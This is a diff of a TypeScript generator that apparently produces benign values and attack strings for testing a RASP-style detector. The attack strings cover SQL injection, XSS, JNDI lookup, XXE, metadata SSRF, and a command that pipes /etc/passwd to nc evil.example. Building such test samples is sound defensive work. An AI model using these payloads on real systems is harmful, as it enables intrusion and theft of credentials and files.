@@ -1,7 +1,7 @@
 import { readdirSync, readFileSync } from 'node:fs';
 import path from 'node:path';
 import { gunzipSync } from 'node:zlib';
-import { seeded } from './events.ts';
+import { createRandom, type Random } from '@rasp/testing/random.ts';
 
 /** Values to inspect, apart by what they are. */
 export interface ValueSample {
@@ -9,20 +9,13 @@ export interface ValueSample {
   readonly attacks: readonly string[];
 }
 
-type Random = () => number;
 type Maker = (random: Random) => string;
 
 /** Values of each kind in the generated sample. */
 const PER_KIND = 600;
 
-function pick<T>(random: Random, list: readonly T[]): T {
-  const item = list[Math.floor(random() * list.length)];
-  if (item === undefined) throw new Error('empty list');
-  return item;
-}
-
 function integer(random: Random, below: number): number {
-  return Math.floor(random() * below);
+  return Math.floor(random.next() * below);
 }
 
 const nouns =
@@ -32,8 +25,8 @@ const names = ["Sean O'Neill", 'Mira Lindqvist', 'Jean-Luc Béart', 'Ana (Annie)
 
 /** Nouns, joined as sentences join them. */
 function words(random: Random, count: number): string {
-  let text = pick(random, nouns);
-  for (let more = 1; more < count; more += 2) text += ` ${pick(random, joints)} ${pick(random, nouns)}`;
+  let text = random.pick(nouns);
+  for (let more = 1; more < count; more += 2) text += ` ${random.pick(joints)} ${random.pick(nouns)}`;
   return text;
 }
 
@@ -43,15 +36,15 @@ function identifier(random: Random, length: number): string {
 
 const benign: Readonly<Record<string, Maker>> = {
   identifier: (random) => identifier(random, 8 + integer(random, 30)),
-  number: (random) => (random() * 10_000).toFixed(integer(random, 3)),
-  name: (random) => pick(random, names),
-  mail: (random) => `${pick(random, nouns)}.${integer(random, 99)}@example.com`,
+  number: (random) => (random.next() * 10_000).toFixed(integer(random, 3)),
+  name: (random) => random.pick(names),
+  mail: (random) => `${random.pick(nouns)}.${integer(random, 99)}@example.com`,
   sentence: (random) => `It's a ${words(random, 8)} (${words(random, 2)}), isn't it? ${words(random, 6)}.`,
   paragraph: (random) =>
     Array.from({ length: 6 }, () => `${words(random, 9)}; "${words(random, 3)}" - ${words(random, 5)}.`).join('\n'),
-  path: (random) => `/${pick(random, nouns)}/${integer(random, 9999)}/${pick(random, nouns)}.html`,
+  path: (random) => `/${random.pick(nouns)}/${integer(random, 9999)}/${random.pick(nouns)}.html`,
   url: (random) =>
-    `https://www.example.com/${pick(random, nouns)}?page=${integer(random, 99)}&sort=${pick(random, nouns)}#top`,
+    `https://www.example.com/${random.pick(nouns)}?page=${integer(random, 99)}&sort=${random.pick(nouns)}#top`,
   query: (random) => `q=${words(random, 2).replaceAll(' ', '+')}&id=${integer(random, 999)}&lang=en-GB`,
   date: (random) => `2026-1${integer(random, 3)}-${10 + integer(random, 18)}T0${integer(random, 9)}:15:00.000Z`,
   agent: (random) =>
@@ -59,28 +52,28 @@ const benign: Readonly<Record<string, Maker>> = {
   cookie: (random) =>
     `_ga=GA1.2.${integer(random, 1e9)}.${integer(random, 1e9)}; theme=dark; sid=${identifier(random, 24)}`,
   json: (random) =>
-    JSON.stringify({ id: integer(random, 1e6), title: words(random, 4), tags: [pick(random, nouns)], active: true }),
+    JSON.stringify({ id: integer(random, 1e6), title: words(random, 4), tags: [random.pick(nouns)], active: true }),
   markup: (random) =>
-    `<p class="note">${words(random, 6)} <b>${pick(random, nouns)}</b> &amp; <a href="/x">more</a></p>`,
+    `<p class="note">${words(random, 6)} <b>${random.pick(nouns)}</b> &amp; <a href="/x">more</a></p>`,
   markdown: (random) =>
-    `Run \`npm install ${pick(random, nouns)}\`, then see [${pick(random, nouns)}](https://example.com/a).`,
+    `Run \`npm install ${random.pick(nouns)}\`, then see [${random.pick(nouns)}](https://example.com/a).`,
   encoded: (random) => encodeURIComponent(`${words(random, 3)} / ${integer(random, 100)}%`),
-  filter: (random) => `${pick(random, nouns)} eq '${pick(random, nouns)}' and price lt ${integer(random, 500)}`,
+  filter: (random) => `${random.pick(nouns)} eq '${random.pick(nouns)}' and price lt ${integer(random, 500)}`,
 };
 
 const attacks: Readonly<Record<string, Maker>> = {
-  sqli: (random) => `${integer(random, 99)}' union select ${pick(random, nouns)}, password from users -- `,
-  blind: (random) => `${pick(random, nouns)}') and sleep(${1 + integer(random, 9)})#`,
-  xss: (random) => `"><img src=${pick(random, nouns)} onerror=alert(${integer(random, 99)})>`,
-  scheme: (random) => `javascript:fetch('//evil.example/${pick(random, nouns)}')`,
-  command: (random) => `${pick(random, nouns)}; cat /etc/passwd | nc evil.example ${integer(random, 9999)}`,
+  sqli: (random) => `${integer(random, 99)}' union select ${random.pick(nouns)}, password from users -- `,
+  blind: (random) => `${random.pick(nouns)}') and sleep(${1 + integer(random, 9)})#`,
+  xss: (random) => `"><img src=${random.pick(nouns)} onerror=alert(${integer(random, 99)})>`,
+  scheme: (random) => `javascript:fetch('//evil.example/${random.pick(nouns)}')`,
+  command: (random) => `${random.pick(nouns)}; cat /etc/passwd | nc evil.example ${integer(random, 9999)}`,
   traversal: (random) => `${'../'.repeat(3 + integer(random, 5))}etc/passwd`,
   template: (random) => `{{${integer(random, 99)}*${integer(random, 99)}}}`,
-  lookup: (random) => `\${jndi:ldap://evil.example/${pick(random, nouns)}}`,
-  entity: (random) => `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/${pick(random, nouns)}">]><a>&b;</a>`,
-  metadata: (random) => `http://169.254.169.254/latest/${pick(random, nouns)}`,
-  operator: (random) => `' || this.${pick(random, nouns)} == '${pick(random, nouns)}`,
-  twice: (random) => encodeURIComponent(`<script>alert('${pick(random, nouns)}')</script>`),
+  lookup: (random) => `\${jndi:ldap://evil.example/${random.pick(nouns)}}`,
+  entity: (random) => `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/${random.pick(nouns)}">]><a>&b;</a>`,
+  metadata: (random) => `http://169.254.169.254/latest/${random.pick(nouns)}`,
+  operator: (random) => `' || this.${random.pick(nouns)} == '${random.pick(nouns)}`,
+  twice: (random) => encodeURIComponent(`<script>alert('${random.pick(nouns)}')</script>`),
 };
 
 function generate(makers: Readonly<Record<string, Maker>>, random: Random): string[] {
@@ -89,7 +82,7 @@ function generate(makers: Readonly<Record<string, Maker>>, random: Random): stri
 
 /** A sample of invented values of many kinds, the same each time. */
 export function generatedValues(): ValueSample {
-  const random = seeded(20_261_126);
+  const random = createRandom(20_261_126);
   return { benign: generate(benign, random), attacks: generate(attacks, random) };
 }
 
